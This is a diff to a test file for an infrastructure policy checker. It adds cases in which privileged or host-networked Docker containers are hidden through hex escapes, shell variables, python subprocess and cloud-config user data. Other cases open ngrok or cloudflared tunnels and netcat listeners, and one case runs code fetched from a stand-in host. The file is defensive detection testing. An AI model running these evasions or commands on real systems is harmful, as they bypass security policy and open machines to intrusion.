@@ -273,6 +273,75 @@ const EVASIONS: Evasion[] = [
     [it("command:local:Command", { create: "dockerd -H tcp://0.0.0.0:2375" })],
     ['it: create is "dockerd -H tcp:"; wanted a docker.Container, which can be looked at.'],
   ],
+  ...[
+    "printf '\\x64ocker run --privileged x' | sh",
+    "$'\\144ocker' run --privileged x",
+    "D=docker; $D run --privileged x",
+    "OPTS='--rm --privileged'; docker run $OPTS x",
+    "docker run '--privileged' x",
+    'python3 -c \'import subprocess; subprocess.run(["docker", "run", "--privileged", "x"])\'',
+  ].map(
+    (create): Evasion => [
+      "command-no-unjudged-container",
+      create,
+      [it("command:local:Command", { create })],
+      ['it: create is "--privileged"; wanted no privileged container.'],
+    ],
+  ),
+  [
+    "command-no-unjudged-container",
+    "a list of words in user data",
+    [
+      it("aws:ec2/instance:Instance", {
+        userData: "#cloud-config\nruncmd:\n- [docker, run, --privileged, x]",
+      }),
+    ],
+    ['it: userData is "--privileged"; wanted no privileged container.'],
+  ],
+  [
+    "command-no-unjudged-container",
+    "a list of lines in user data",
+    [
+      it("aws:ec2/instance:Instance", {
+        userData: "#cloud-config\nruncmd:\n- - docker\n  - run\n  - --privileged\n  - x\n",
+      }),
+    ],
+    ['it: userData is "--privileged"; wanted no privileged container.'],
+  ],
+  [
+    "command-no-unjudged-container",
+    "an option in the command's environment",
+    [it("command:local:Command", { create: "docker run $O x", environment: { O: "--net=host" } })],
+    ['it: create is "--net=host"; wanted namespaces of its own.'],
+  ],
+  [
+    "command-no-open-way",
+    "a script that is copied to the machine",
+    [
+      it("command:remote:CopyToRemote", {
+        source: { text: "#!/bin/sh\nngrok http 8188" },
+        remotePath: "/x.sh",
+      }),
+    ],
+    ['it: source.text is "a tunnel"; wanted the gateway as the only way in.'],
+  ],
+  [
+    "command-no-open-way",
+    "a script that a container is given",
+    [
+      it("docker:index/container:Container", {
+        command: ["sh", "/x.sh"],
+        uploads: [{ file: "/x.sh", content: "cloudflared tunnel run" }],
+      }),
+    ],
+    ['it: uploads[0].content is "a tunnel"; wanted the gateway as the only way in.'],
+  ],
+  [
+    "command-no-open-way",
+    "a health check that listens",
+    [it("docker:index/container:Container", { healthcheck: { tests: ["CMD", "nc", "-lk", "8188"] } })],
+    ['it: healthcheck.tests is "a forwarder"; wanted the gateway as the only way in.'],
+  ],
   [
     "command-no-open-way",
     "ufw disable",
@@ -342,7 +411,7 @@ const EVASIONS: Evasion[] = [
       }),
     ],
     [
-      'it: create is "python3 -c \\"import urllib.request as u; exec(u.urlopen(\'http://x\').read())\\""; wanted a download that is checked before it runs.',
+      'it: create is "python3 -c \\"import urllib.request as u; exec(u.urlopen(http://x).read())\\""; wanted a download that is checked before it runs.',
     ],
   ],
   [
